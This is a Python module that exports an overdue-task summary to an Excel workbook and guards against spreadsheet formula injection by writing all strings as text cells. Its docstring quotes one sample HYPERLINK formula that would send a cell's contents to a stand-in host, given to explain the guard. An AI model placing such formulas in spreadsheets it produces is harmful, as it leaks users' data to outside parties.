"""The overdue summary as an Excel workbook a leader can open: header row, frozen panes, dates as dates.

Text stays text: every string (task titles, unit names, headings) is written as a string cell, so a title
like `=HYPERLINK("http://x?d="&A1,"bấm")` shows as typed and never becomes a live formula (openpyxl makes
any string starting with "=" a formula). Characters XML cannot hold (control characters other than tab,
line feed and carriage return) are dropped instead of failing the whole export.
"""

from __future__ import annotations

from collections.abc import Sequence
from io import BytesIO
from pathlib import Path

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from bot.i18n import t
from db.queries import Summary, TaskView


def _append(ws: Worksheet, values: Sequence[object]) -> None:
    """`ws.append(values)` with every string a string cell (never a formula)."""
    ws.append([ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v for v in values])
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


_COLUMNS = ["unit", "name", "assigned", "done_on_time", "done_late", "in_progress", "overdue", "recurring", "pct_done"]


def summary_workbook(summary: Summary, overdue_tasks: list[TaskView] | None = None, lang: str = "vi") -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = t("xlsx.sheet_summary", lang)
    _append(ws, [t("xlsx.title", lang, unit=summary.unit_name, as_of=summary.as_of.strftime("%d/%m/%Y"))])
    ws["A1"].font = Font(bold=True, size=13)
    _append(ws, [t("xlsx.as_of", lang), summary.as_of])
    ws["B2"].number_format = "DD/MM/YYYY"
    header = [t(f"col.{c}", lang) for c in _COLUMNS]
    _append(ws, header)
    header_row = ws.max_row
    for cell in ws[header_row]:
        cell.font = Font(bold=True, color="FFFFFF")
        cell.fill = PatternFill("solid", fgColor="1F4E79")
        cell.alignment = Alignment(wrap_text=True, vertical="center")
    for row in [*summary.rows, summary.total]:
        d = row.as_dict()
        _append(ws, [d[c] for c in _COLUMNS])
        ws.cell(ws.max_row, len(_COLUMNS)).number_format = "0.0"
    for cell in ws[ws.max_row]:
        cell.font = Font(bold=True)
    ws.freeze_panes = ws.cell(header_row + 1, 3)
    widths = [14, 48, 10, 12, 12, 12, 10, 12, 10]
    for i, w in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(i)].width = w
    if overdue_tasks:
        ws2 = wb.create_sheet(t("xlsx.sheet_overdue", lang))
        _append(ws2, [t(f"col.{c}", lang) for c in ("code", "title", "unit", "deadline", "days_late", "source")])
        for cell in ws2[1]:
            cell.font = Font(bold=True)
        for task in overdue_tasks:
            _append(ws2, [
                task.code, task.title, task.unit_name, task.deadline, task.days_late(summary.as_of),
                " ".join(x for x in (task.source_symbol, task.source_section) if x),
            ])
            ws2.cell(ws2.max_row, 4).number_format = "DD/MM/YYYY"
        ws2.freeze_panes = "C2"
        for i, w in enumerate([16, 60, 30, 12, 10, 30], start=1):
            ws2.column_dimensions[get_column_letter(i)].width = w
    buf = BytesIO()
    wb.save(buf)
    return buf.getvalue()


def write_summary_workbook(path: Path, summary: Summary, overdue_tasks: list[TaskView] | None = None, lang: str = "vi") -> None:
    path.write_bytes(summary_workbook(summary, overdue_tasks, lang))
